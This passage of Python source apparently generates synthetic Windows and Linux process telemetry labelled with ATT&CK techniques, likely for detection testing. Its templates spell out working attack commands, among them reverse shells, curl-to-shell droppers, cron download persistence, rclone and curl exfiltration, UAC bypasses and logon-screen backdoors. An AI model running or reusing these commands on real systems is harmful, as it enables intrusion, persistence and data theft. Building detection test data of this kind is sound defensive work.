                    (SYS + "\\rundll32.exe", f"rundll32.exe {c.home}\\AppData\\Roaming\\{G.name(5)}.dll,{G.c(['DllRegisterServer', 'Start', '#1', 'EntryPoint'])}"),
                    (SYS + "\\wscript.exe", f"wscript.exe //E:jscript {c.home}\\AppData\\Local\\Temp\\{G.name(6)}.txt"),
                    (SYS + "\\cscript.exe", f"cscript.exe //nologo C:\\Users\\Public\\{G.name(6)}.vbs")])
    return {"img": img, "cmd": cmd, "pimg": oimg, "pcmd": pcmd}


@M("win-script-host-user-download", "windows", ["T1059.007", "T1204.002"], "execution",
    "wscript or cscript running a .js, .jse, .vbs or .wsf straight from Downloads, Temp or an opened zip: the usual first stage of commodity malware")
def _(c):
    where = G.c([f"{c.home}\\Downloads", f"{c.home}\\AppData\\Local\\Temp\\Temp1_{G.c(DOC_NAMES)}.zip",
                 f"{c.home}\\AppData\\Local\\Temp\\7zO{G.hx(8).upper()}", f"{c.home}\\Desktop",
                 f"{c.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\{G.name(8).upper()}"])
    f = f"{where}\\{G.c(DOC_NAMES)}{G.c(['.js', '.jse', '.vbs', '.wsf', '.vbe', '.pdf.js', '.js'])}"
    host = G.c(["wscript.exe", "cscript.exe"])
    cmd = f"\"C:\\Windows\\System32\\{G.c([host, host.replace('w', 'W', 1)])}\" {G.c(['', '//nologo ', '//B ', '//E:jscript '])}\"{f}\"".replace("  ", " ")
    pimg, pcmd = G.c([explorer(), explorer(), ("C:\\Program Files\\7-Zip\\7zFM.exe", f"\"C:\\Program Files\\7-Zip\\7zFM.exe\" \"{c.home}\\Downloads\\{G.c(DOC_NAMES)}.zip\""),
                      ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument " + f)])
    return {"img": SYS + "\\" + host, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": where + "\\"}


@M("win-msbuild-inline-task", "windows", ["T1127.001"], "defense-evasion",
    "MSBuild compiling and running a project file from a temp, public or user folder: inline C# tasks used to run code past application control")
def _(c):
    fw = G.c(["C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe"])
    proj = f"{user_drop_dir(c)}\\{G.c(['build', 'a', 'task', 'update', 'msbuild', G.name(5)])}.{G.c(['xml', 'csproj', 'proj', 'txt'])}"
    cmd = f"{G.c([fw, chr(34) + fw + chr(34), 'msbuild.exe', 'MSBuild.exe'])} {G.c(['', '/nologo ', '/noconsolelogger '])}{proj}".replace("  ", " ")
    return with_parent({"img": fw, "cmd": cmd}, cmd, c)


@M("win-installutil-proxy", "windows", ["T1218.004"], "defense-evasion",
    "InstallUtil with /U (or /logfile= /LogToConsole=false) on a DLL or EXE in a user-writable folder: running an uninstaller class as a proxy")
def _(c):
    fw = G.c(["C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe"])
    tgt = f"{user_drop_dir(c)}\\{G.name(6)}.{G.c(['dll', 'exe'])}"
    cmd = f"{G.c([fw, 'InstallUtil.exe', 'installutil'])} {G.c(['/logfile= /LogToConsole=false /U', '/U', '/u', '/logfile= /LogToConsole=false'])} {tgt}"
    return with_parent({"img": fw, "cmd": cmd}, cmd, c)


@M("win-cmstp-inf-proxy", "windows", ["T1218.003"], "defense-evasion",
    "cmstp silently installing an INF from a temp or download folder: a UAC-bypassing proxy that runs the INF's commands")
def _(c):
    inf = f"{user_drop_dir(c)}\\{G.c(['cm', 'vpn', 'profile', 'setup', G.name(5)])}.inf"
    cmd = f"{G.c(['cmstp.exe', 'cmstp', 'C:' + BS + 'Windows' + BS + 'system32' + BS + 'cmstp.exe'])} {G.c(['/s', '/ni /s', '/au', '/s /ns'])} {inf}"
    return with_parent({"img": SYS + "\\cmstp.exe", "cmd": cmd}, cmd, c)


@M("win-odbcconf-regsvr", "windows", ["T1218.008"], "defense-evasion",
    "odbcconf REGSVR or a response file loading a DLL from a user-writable path: signed-binary proxy execution")
def _(c):
    d = f"{user_drop_dir(c)}\\{G.name(6)}.dll"
    cmd = G.c([f"odbcconf.exe /a {{REGSVR {d}}}", f"odbcconf /S /A {{REGSVR \"{d}\"}}", f"odbcconf -f {user_drop_dir(c)}\\{G.name(4)}.rsp", f"odbcconf.exe /s /a {{installdriver {d}}}"])
    return with_parent({"img": SYS + "\\odbcconf.exe", "cmd": cmd}, cmd, c)


@M("win-forfiles-pcalua-proxy", "windows", ["T1202"], "defense-evasion",
    "forfiles /c or pcalua -a used only to launch another program: indirect command execution that breaks the parent-child link")
def _(c):
    tgt = f"{user_drop_dir(c)}\\{drop_name(G.c(['.exe', '.bat', '.dll']))}"
    if R.random() < 0.5:
        img = SYS + "\\forfiles.exe"
        cmd = f"forfiles {G.c(['/p c:' + BS + 'windows' + BS + 'system32 /m notepad.exe', '/p C:' + BS + 'Windows /m explorer.exe', '/P c:' + BS + 'windows' + BS + 'system32 /M calc.exe'])} /c \"{G.c(['cmd /c ', ''])}{tgt}\""
    else:
        img = SYS + "\\pcalua.exe"
        cmd = f"pcalua.exe -a {tgt}{G.c(['', ' -d ' + user_drop_dir(c), ' -c ' + G.name(3)])}"
    return with_parent({"img": img, "cmd": cmd}, cmd, c)


@M("win-uac-bypass-autoelevate", "windows", ["T1548.002"], "privilege-escalation",
    "an auto-elevating binary (fodhelper, eventvwr, sdclt, computerdefaults, wsreset) spawning a shell at high integrity from a medium-integrity session: a registry-hijack UAC bypass")
def _(c):
    ae = G.c(["fodhelper.exe", "eventvwr.exe", "sdclt.exe", "ComputerDefaults.exe", "WSReset.exe"])
    pimg = SYS + "\\" + ae
    img, cmd = G.c([(CMD, G.c(["\"C:\\Windows\\system32\\cmd.exe\"", "cmd.exe /c start " + user_drop_dir(c) + "\\" + drop_name(), "C:\\Windows\\System32\\cmd.exe /c " + user_drop_dir(c) + "\\" + drop_name('.bat')])),
                    (PS, f"powershell.exe {pflags()} -enc {utf16_b64(cradle_text())}"),
                    (user_drop_dir(c) + "\\" + drop_name(), None)])
    cmd = cmd or img
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": f"\"C:\\Windows\\system32\\{ae}\"" + G.c(["", " /KICKOFFELEV" if ae == "sdclt.exe" else ""]),
            "run": "useradmin", "prun": "useradmin"}


@M("win-accessibility-debugger-hijack", "windows", ["T1546.008", "T1546.012"], "persistence",
    "an Image File Execution Options Debugger value on sethc, utilman, osk or magnify pointing at cmd or a dropped binary: a logon-screen backdoor")
def _(c):
    t = G.c(["sethc.exe", "utilman.exe", "osk.exe", "Magnify.exe", "narrator.exe", "DisplaySwitch.exe"])
    dbg = G.c(["C:\\windows\\system32\\cmd.exe", "cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\ProgramData\\" + drop_name()])
    key = G.c(["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"])
    cmd = f"reg add \"{key}\\{t}\" /v Debugger /t REG_SZ /d \"{dbg}\" /f"
    if R.random() < 0.25:
        img, cmd = SYS + "\\takeown.exe", f"takeown /f C:\\Windows\\System32\\{t}"
    else:
        img = SYS + "\\reg.exe"
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"])}


@M("win-local-admin-account-add", "windows", ["T1136.001", "T1098"], "persistence",
    "net user /add of an account with a set password, or adding one to the local Administrators or Remote Desktop Users group")
def _(c):
    u = G.c(["support", "helpdesk", "admin1", "sqlsvc", "backup_adm", "defaultuser1", "WDAGUtility", G.name(6)])
    net = G.c(["net", "net.exe", "net1", "C:\\Windows\\system32\\net.exe"])
    cmd = G.c([f"{net} user {u} {G.c(['P@ssw0rd!', 'Qwerty123!', 'Admin#2024', 'Passw0rd1', G.name(10, 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!#')])} /add{G.c(['', ' /y', ' /active:yes'])}",
               f"{net} localgroup administrators {u} /add", f"{net} localgroup \"Remote Desktop Users\" {u} /add",
               f"{net} localgroup Administrators {c.dom}\\{u} /ADD"])
    img = SYS + ("\\net1.exe" if "net1" in net else "\\net.exe")
    pimg, pcmd = G.c([cmd_wrap(cmd), ("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"), cmd_wrap(cmd)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-webshell-recon", "windows", ["T1505.003", "T1087.002"], "discovery",
    "an IIS or SQL Server worker spawning cmd for whoami, net group or nltest: a web shell or injected query enumerating the domain")
def _(c):
    c.server = True
    c.host = G.c(["SRV-WEB03", "SRV-APP02", "SRV-EXCH02", "SRV-SQL01"])
    c.fqdn = f"{c.host}.{c.suffix}"
    what = G.c(["net group \"domain admins\" /domain", "nltest /dclist:" + c.dom.lower(), "whoami /all", "net user /domain",
                "nltest /domain_trusts /all_trusts", "ipconfig /all && arp -a", "net group \"Enterprise Admins\" /domain", "quser", "systeminfo"])
    pre = G.c(["cmd.exe", "cmd", "C:\\Windows\\system32\\cmd.exe"])
    if R.random() < 0.3:
        cmd = f'{pre} /c "cd /d c:\\inetpub\\wwwroot\\&{what}"'
    else:
        cmd = f"{pre} {G.c(['/c', '/C'])} {what}"
    if R.random() < 0.75:
        pimg = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
        pool = G.c(["DefaultAppPool", "MSExchangeOWAAppPool", "IntranetPool"])
        pcmd = f"c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"{pool}\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm{G.guid()} -h \"C:\\inetpub\\temp\\apppools\\{pool}\\{pool}.config\" -w \"\" -m 0"
        run = "iis"
    else:
        pimg = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
        pcmd = "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER"
        run = "sql"
    return {"img": CMD, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": run, "cwd": "c:\\windows\\system32\\inetsrv\\"}


@M("win-ad-recon-tooling", "windows", ["T1087.002", "T1069.002"], "discovery",
    "AdFind, SharpHound or a renamed BloodHound collector run from a user folder to dump the directory: pre-ransomware AD reconnaissance")
def _(c):
    d = G.c([user_drop_dir(c), "C:\\ProgramData", "C:\\PerfLogs", "C:\\Windows\\Temp"])
    k = R.randint(0, 2)
    if k == 0:
        exe = f"{d}\\{G.c(['AdFind.exe', 'adf.exe', 'af.exe'])}"
        cmd = f"{basename(exe)} {G.c(['-f ' + Q + '(objectcategory=computer)' + Q + '', '-f ' + Q + '(objectcategory=person)' + Q + '', '-sc trustdmp', '-gcb -sc trustdmp', '-subnets -f (objectCategory=subnet)', '-f ' + Q + 'objectcategory=group' + Q + ''])} {G.c(['> ' + d + '' + BS + 'ad_computers.txt', '> ad_users.txt', '-csv name', ''])}".strip()
    elif k == 1:
        exe = f"{d}\\{G.c(['SharpHound.exe', 'sh.exe', 'collector.exe'])}"
        cmd = f"{exe} {G.c(['-c All', '--CollectionMethods All', '-c DCOnly', '-c Session,LoggedOn --Loop'])} {G.c(['--zipfilename out.zip', '--OutputDirectory ' + d, '--stealth', ''])}".strip()
    else:
        exe = PS
        cmd = f"powershell -ep bypass -c \"Import-Module {d}\\SharpHound.ps1; Invoke-BloodHound -CollectionMethod All -OutputDirectory {d}\""
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": d + "\\"}


@M("win-kerberos-ticket-tooling", "windows", ["T1558.003"], "credential-access",
    "Rubeus-style tooling requesting service tickets for kerberoasting or AS-REP roasting from a user folder")
def _(c):
    d = G.c([user_drop_dir(c), "C:\\ProgramData", "C:\\Windows\\Temp"])
    exe = f"{d}\\{G.c(['Rubeus.exe', 'rb.exe', 'r.exe', 'kerb.exe'])}"
    cmd = f"{basename(exe) if R.random() < 0.5 else exe} {G.c(['kerberoast /outfile:hashes.txt', 'kerberoast /stats', 'asreproast /format:hashcat /outfile:asrep.txt', 'kerberoast /user:svc_sql /nowrap', 'dump /service:krbtgt /nowrap', 'tgtdeleg /nowrap'])}"
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell(), ps_wrap(f"& {exe} kerberoast")])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": d + "\\"}


@M("win-rclone-cloud-exfil", "windows", ["T1567.002"], "exfiltration",
    "rclone (often renamed) copying file shares or user folders to MEGA, an FTP or an S3 bucket with transfer tuning: bulk exfiltration")
def _(c):
    d = G.c(["C:\\ProgramData", "C:\\Users\\Public", user_drop_dir(c), "C:\\PerfLogs"])
    exe = f"{d}\\{G.c(['rclone.exe', 'rc.exe', 'svchost.exe', 'winupd.exe'])}"
    src = G.c(["\\\\" + G.c(FILESERVERS) + "\\Finance", "\\\\" + G.c(FILESERVERS) + "\\HR$", "D:\\Shares", "C:\\Users", "\\\\" + G.c(FILESERVERS) + "\\Projects"])
    dst = G.c(["mega:backup", "remote:data", "s3x:exfil-" + G.name(4), "ftp1:/upload", "mega:" + G.name(5)])
    flags = " ".join(R.sample(["-q", "--ignore-existing", "--auto-confirm", "--multi-thread-streams 12", "--transfers 20", "--max-age 2y",
                               "--exclude \"*.{mp4,iso,exe}\"", "--no-check-certificate", f"--config {d}\\rclone.conf", "-P"], R.randint(2, 5)))
    cmd = f"{exe} {G.c(['copy', 'sync', 'copy'])} {src} {dst} {flags}"
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": d + "\\"}


@M("win-http-upload-exfil", "windows", ["T1567", "T1048.003"], "exfiltration",
    "curl or Invoke-WebRequest POSTing an archive, a dump or collected documents to a paste or file-sharing site or a bare IP")
def _(c):
    f = f"{user_drop_dir(c)}\\{G.c(['data', 'out', 'docs', 'backup', c.user])}.{G.c(['zip', '7z', 'rar', 'txt', 'dmp'])}"
    dest = G.c(["https://transfer.sh/" + G.name(6) + ".zip", "https://file.io", "https://api.anonfiles.example/upload", "https://paste.ee/api",
                f"http://{G.ip()}/upload.php", f"https://{G.c(BAD_DOMAINS)}/u", "https://temp.sh/upload"])
    if R.random() < 0.5:
        img = SYS + "\\curl.exe"
        cmd = G.c([f"curl.exe -F \"file=@{f}\" {dest}", f"curl -k -X POST --data-binary @{f} {dest}", f"curl --upload-file {f} {dest}", f"curl.exe -s -T {f} {dest}"])
    else:
        img = PS
        cmd = f"{psexe()} -nop -c \"Invoke-WebRequest -Uri '{dest}' -Method {G.c(['POST', 'Post', 'PUT'])} -InFile '{f}' -UseBasicParsing\""
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("win-archive-staging-password", "windows", ["T1560.001"], "collection",
    "7-Zip or WinRAR building a password-protected (often header-encrypted) archive of shares or user documents in a staging folder")
def _(c):
    stage = G.c(["C:\\ProgramData", "C:\\Users\\Public\\Music", "C:\\PerfLogs", "C:\\Windows\\Temp", user_drop_dir(c)])
    src = G.c([f"{c.home}\\Documents", "\\\\" + G.c(FILESERVERS) + "\\Finance\\*", "D:\\Shares\\Legal", f"{c.home}\\Desktop\\*.xlsx", "C:\\Users\\*\\Documents\\*.pdf"])
    pw = G.c(["Infected2024", "qwe123QWE", G.name(12, "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"), "P@ss"])
    if R.random() < 0.6:
        exe = G.c(["C:\\Program Files\\7-Zip\\7z.exe", f"{stage}\\7za.exe", f"{stage}\\7z.exe"])
        cmd = f"{exe if ' ' not in exe else chr(34) + exe + chr(34)} a {G.c(['-tzip', '-t7z', ''])} -p{pw} {G.c(['-mhe=on', '-mx9', '-v500m', ''])} {stage}\\{G.c(['b', 'data', 'arc', G.name(3)])}.{G.c(['7z', 'zip'])} {src}".replace("  ", " ")
    else:
        exe = G.c(["C:\\Program Files\\WinRAR\\Rar.exe", f"{stage}\\rar.exe"])
        cmd = f"{exe if ' ' not in exe else chr(34) + exe + chr(34)} a -hp{pw} {G.c(['-m5', '-r', '-ep1', '-v1g'])} {stage}\\{G.name(4)}.rar {src}"
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": stage + "\\"}


@M("win-ransomware-permission-wipe", "windows", ["T1222.001", "T1485"], "impact",
    "icacls granting Everyone full control across a drive, or cipher /w wiping free space, run in bulk from a dropped binary or script before encryption")
def _(c):
    k = R.random()
    if k < 0.5:
        img = SYS + "\\icacls.exe"
        cmd = f"icacls {G.c(['' + Q + 'C:' + BS + '*' + Q + '', '' + Q + 'D:' + BS + '*' + Q + '', 'C:' + BS + 'Users' + BS + '*', '' + Q + '' + BS + '' + BS + '' + G.c(FILESERVERS) + '' + BS + 'Shares' + BS + '*' + Q + ''])} /grant {G.c(['Everyone:F', '*S-1-1-0:(OI)(CI)F', 'Everyone:(F)'])} /T /C /Q"
    else:
        img = SYS + "\\cipher.exe"
        cmd = f"cipher {G.c(['/w:C:', '/w:D:' + BS + '', '/w:c:' + BS + ''])}"
    pimg = G.c([f"C:\\Users\\Public\\{drop_name()}", f"{c.home}\\AppData\\Local\\Temp\\{drop_name()}", CMD])
    pcmd = pimg if pimg != CMD else cmd_wrap(cmd)[1]
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system"])}


@M("win-rundll32-no-args-beacon", "windows", ["T1218.011", "T1055"], "defense-evasion",
    "rundll32.exe with no arguments at all, started by an Office app, a script host, a service or a process in a user folder: a sacrificial process for injected beacon code")
def _(c):
    pimg, pcmd = G.c([(PS, f"powershell -nop -w hidden -enc {utf16_b64(cradle_text())}"),
                      (f"{user_drop_dir(c)}\\{drop_name()}", None), ("C:\\Windows\\System32\\wscript.exe", f"wscript.exe {c.home}\\Downloads\\{G.c(DOC_NAMES)}.js"),
                      ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
                      (f"C:\\Windows\\{G.name(7)}.exe", None), (OFFICE[0][0], f"\"{OFFICE[0][0]}\" /n \"{c.home}\\Downloads\\{G.c(DOC_NAMES)}.docm\"")])
    pcmd = pcmd or pimg
    img = G.c([SYS + "\\rundll32.exe", "C:\\Windows\\SysWOW64\\rundll32.exe"])
    return {"img": img, "cmd": G.c(["rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\syswow64\\rundll32.exe", "\"C:\\Windows\\System32\\rundll32.exe\""]),
            "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "system", "useradmin"])}


@M("win-named-pipe-getsystem", "windows", ["T1134.001"], "privilege-escalation",
    "services.exe starting cmd that echoes into a named pipe: the service a C2 framework's getsystem creates to impersonate SYSTEM")
def _(c):
    pipe = G.c([G.hx(6), G.hx(10), G.name(7)])
    cmd = G.c([f"cmd.exe /c echo {G.hx(11)} > \\\\.\\pipe\\{pipe}", f"%COMSPEC% /c echo {G.name(8)} > \\\\.\\pipe\\{pipe}",
               f"C:\\Windows\\system32\\cmd.exe /c echo {G.hx(8)} > \\\\.\\pipe\\{pipe}"])
    return {"img": CMD, "cmd": cmd, "pimg": SYS + "\\services.exe", "pcmd": "C:\\Windows\\system32\\services.exe", "run": "system"}


@M("win-hostrecon-tooling", "windows", ["T1082", "T1518.001"], "discovery",
    "Seatbelt-style host survey tools run from a user or temp folder to enumerate security products, tokens, credentials and configuration")
def _(c):
    d = G.c([user_drop_dir(c), "C:\\ProgramData", "C:\\Windows\\Temp"])
    exe = f"{d}\\{G.c(['Seatbelt.exe', 'sb.exe', 'SharpUp.exe', 'winPEASx64.exe', 'wp.exe'])}"
    cmd = f"{exe} {G.c(['-group=all', '-group=user', 'AntiVirus WindowsDefender', 'audit', 'quiet systeminfo userinfo', '-group=system -outputfile=' + d + '' + BS + 'o.txt', 'log'])}"
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": d + "\\"}


@M("win-sql-xpcmdshell-download", "windows", ["T1505.001", "T1105"], "execution",
    "SQL Server spawning cmd or PowerShell that fetches a tool: xp_cmdshell turned on and abused after a database compromise")
def _(c):
    c.server = True
    c.host = G.c(["SRV-SQL01", "SRV-APP02", "SRV-SQL02"])
    c.fqdn = f"{c.host}.{c.suffix}"
    img, cmd = G.c([(CMD, f"\"C:\\Windows\\system32\\cmd.exe\" /c certutil -urlcache -split -f {url()} C:\\Users\\Public\\{drop_name()}"),
                    (CMD, f"\"C:\\Windows\\system32\\cmd.exe\" /c powershell -nop -w hidden -c \"iwr {url()} -OutFile C:\\ProgramData\\{drop_name()}\""),
                    (PS, f"powershell.exe -nop -enc {utf16_b64(cradle_text())}"),
                    (CMD, f"\"C:\\Windows\\system32\\cmd.exe\" /c bitsadmin /transfer x {url()} C:\\Windows\\Temp\\{drop_name()}")])
    return {"img": img, "cmd": cmd, "pimg": "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
            "pcmd": "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER", "run": "sql"}


# Linux, malicious ------------------------------------------------------------------------------

WEB_PARENTS = [("/usr/sbin/php-fpm8.1", "php-fpm: pool www", "www-data", "/var/www/html"),
               ("/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "www-data", "/var/www/html"),
               ("/opt/tomcat/jdk/bin/java", "/opt/tomcat/jdk/bin/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -classpath /opt/tomcat/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start", "tomcat", "/opt/tomcat"),
               ("/usr/lib/postgresql/14/bin/postgres", "postgres: 14/main: postgres postgres 10.20.4.17(51234) idle", "postgres", "/var/lib/postgresql/14/main"),
               ("/usr/bin/redis-server", "/usr/bin/redis-server 0.0.0.0:6379", "redis", "/var/lib/redis"),
               ("/usr/local/bin/node", "node /srv/app/server.js", "node", "/srv/app")]
SHELLS = [("/usr/bin/bash", "bash"), ("/usr/bin/dash", "sh"), ("/bin/bash", "bash"), ("/usr/bin/sh", "sh")]


def lin_attack_parent(c, inner, web_ok=True):
    """Who runs attacker commands on Linux: a compromised web or database process, or an interactive shell."""
    if web_ok and R.random() < 0.5:
        pimg, pcmd, user, cwd = G.c(WEB_PARENTS)
        return {"pimg": pimg, "pcmd": pcmd, "user": user, "cwd": cwd}
    sh = G.c(["/usr/bin/bash", "/usr/bin/zsh", "/usr/bin/dash"])
    return {"pimg": sh, "pcmd": G.c(["-bash", "bash", "/bin/bash", "sh -i", "-zsh"]), "user": G.c([c.user, "root"]), "cwd": None}


def sh_c(c, inner, web_ok=True):
    img, name = G.c(SHELLS)
    spec = lin_attack_parent(c, inner, web_ok)
    spec.update(img=img, cmd=f"{name} -c {inner}", args=[name, "-c", inner])
    if spec["cwd"] is None:
        del spec["cwd"]
    return spec


def lhost():
    return G.ip()


@M("lin-bash-dev-tcp-reverse-shell", "linux", ["T1059.004"], "execution",
    "an interactive bash wired to /dev/tcp on an outside address: a reverse shell", falco=("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "Redirect stdout/stdin to network connection"))
def _(c):
    port = G.c(["4444", "443", "9001", "1337", "8443", "53", "80"])
    inner = G.c([f"bash -i >& /dev/tcp/{lhost()}/{port} 0>&1", f"/bin/bash -i > /dev/tcp/{lhost()}/{port} 0<&1 2>&1",
                 f"exec 5<>/dev/tcp/{lhost()}/{port};cat <&5 | while read line; do $line 2>&5 >&5; done",
                 f"0<&196;exec 196<>/dev/tcp/{lhost()}/{port}; sh <&196 >&196 2>&196", f"bash -c 'bash -i >& /dev/tcp/{lhost()}/{port} 0>&1'"])
    return sh_c(c, inner)


@M("lin-netcat-socat-shell", "linux", ["T1059.004", "T1095"], "command-and-control",
    "netcat with -e/-c, a mkfifo relay or socat exec handing a shell to a remote listener",
    falco=("Netcat Remote Code Execution in Container", "Warning", "Netcat runs inside container that allows remote code execution"))
def _(c):
    h, port = lhost(), G.c(["4444", "9001", "31337", "443", "8080"])
    k = R.randint(0, 3)
    if k == 0:
        img, cmd = G.c(["/usr/bin/nc.traditional", "/usr/bin/ncat", "/bin/nc"]), f"nc {G.c(['-e', '-c'])} {G.c(['/bin/sh', '/bin/bash'])} {h} {port}"
        spec = lin_attack_parent(c, cmd)
    elif k == 1:
        img, cmd = "/usr/bin/socat", f"socat {G.c(['exec:' + chr(39) + 'bash -li' + chr(39) + ',pty,stderr,setsid,sigint,sane', 'EXEC:/bin/sh', 'exec:bash,pty,stderr'])} tcp:{h}:{port}"
        spec = lin_attack_parent(c, cmd)
    else:
        inner = f"rm -f /tmp/{G.c(['f', 'p', '.x'])};mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} {port} >/tmp/f"
        return sh_c(c, inner)
    spec.update(img=img, cmd=cmd)
    if spec.get("cwd") is None:
        spec.pop("cwd", None)
    return spec


@M("lin-python-pty-reverse-shell", "linux", ["T1059.006"], "execution",
    "a python one-liner connecting a socket to an outside address and spawning a pty shell over it")
def _(c):
    h, port = lhost(), G.c(["4444", "9001", "443", "8081"])
    code = G.c([f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{h}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn(\"/bin/bash\")",
                f"import os,pty,socket;s=socket.socket();s.connect((\"{h}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")",
                f"import socket,os,pty;s=socket.create_connection((\"{h}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\"/bin/sh\")"])
    py = G.c(["python3", "python", "python3.10", "/usr/bin/python3"])
    spec = lin_attack_parent(c, code)
    spec.update(img=G.c(["/usr/bin/python3.10", "/usr/bin/python3.11", "/usr/bin/python3.8"]), cmd=f"{py} -c '{code}'", args=[py, "-c", code])
    if spec.get("cwd") is None:
        spec.pop("cwd", None)
    return spec


@M("lin-curl-pipe-shell-raw-ip", "linux", ["T1105", "T1059.004"], "execution",
    "curl or wget output piped straight into a shell from a bare IP or a throwaway domain, typically run by a web or database service account")
def _(c):
    u = url(ext=G.c([".sh", "", ".txt"]))
    inner = G.c([f"curl -fsSL {u} | bash", f"curl -s {u}|sh", f"wget -qO- {u} | sh", f"(curl -fsSL {u}||wget -q -O- {u})|bash",
                 f"curl -k {u} | bash -s -- {G.name(4)}"])
    return sh_c(c, inner)


@M("lin-download-chmod-exec-tmp", "linux", ["T1105"], "command-and-control",
    "a binary fetched into /tmp, /dev/shm or /var/tmp, made executable and run: a dropper staging its next stage",
    falco=("Drop and execute new binary in container", "Critical", "Executing binary not part of base image"))
def _(c):
    d = G.c(["/tmp", "/dev/shm", "/var/tmp", "/tmp/.X11-unix", "/var/tmp/.font-unix"])
    b = G.c(["kworker", "x86_64", ".x", "kdevtmpfs", "sysupdate", "dbus-daemon", G.name(6), "bot"])
    u = url(ext="")
    inner = G.c([f"wget -q {u} -O {d}/{b} && chmod +x {d}/{b} && {d}/{b}", f"curl -o {d}/{b} {u}; chmod 777 {d}/{b}; nohup {d}/{b} >/dev/null 2>&1 &",
                 f"cd {d}; wget {u}; chmod +x {basename(u)}; ./{basename(u)}", f"busybox wget {u} -O {d}/{b}; chmod 755 {d}/{b}; {d}/{b} {G.c(['x86', 'start', ''])}".strip()])
    return sh_c(c, inner)


@M("lin-crontab-download-persistence", "linux", ["T1053.003"], "persistence",
    "a crontab entry or /etc/cron.d file that periodically fetches and runs a script from an outside host",
    falco=("Schedule Cron Jobs", "Notice", "Cron jobs were scheduled to run"))
def _(c):
    u = url(ext=G.c([".sh", ""]))
    line = f"{G.c(['*/5 * * * *', '* * * * *', '@reboot', '*/10 * * * *', '0 * * * *'])} {G.c(['curl -fsSL', 'wget -q -O-', 'curl -s'])} {u} | {G.c(['sh', 'bash'])}"
    inner = G.c([f"(crontab -l 2>/dev/null; echo \"{line}\") | crontab -", f"echo \"{line}\" | crontab -",
                 f"echo '{line.split(' ', 5)[0] if not line.startswith('@') else '@reboot'} root {line.split(' ', 5)[-1] if not line.startswith('@') else line[8:]}' > /etc/cron.d/{G.c(['apache', 'sysstat2', '.update', 'php'])}"])
    return sh_c(c, inner)


@M("lin-authorized-keys-append", "linux", ["T1098.004"], "persistence",
    "appending an outside public key to root's or a service user's authorized_keys: SSH backdoor access")
def _(c):
    key = f"ssh-{G.c(['rsa', 'ed25519'])} AAAA{base64.b64encode(bytes.fromhex(G.hx(64))).decode()[:68]} {G.c(['root@kali', 'user@localhost', 'x', G.name(5) + '@' + G.name(6)])}"
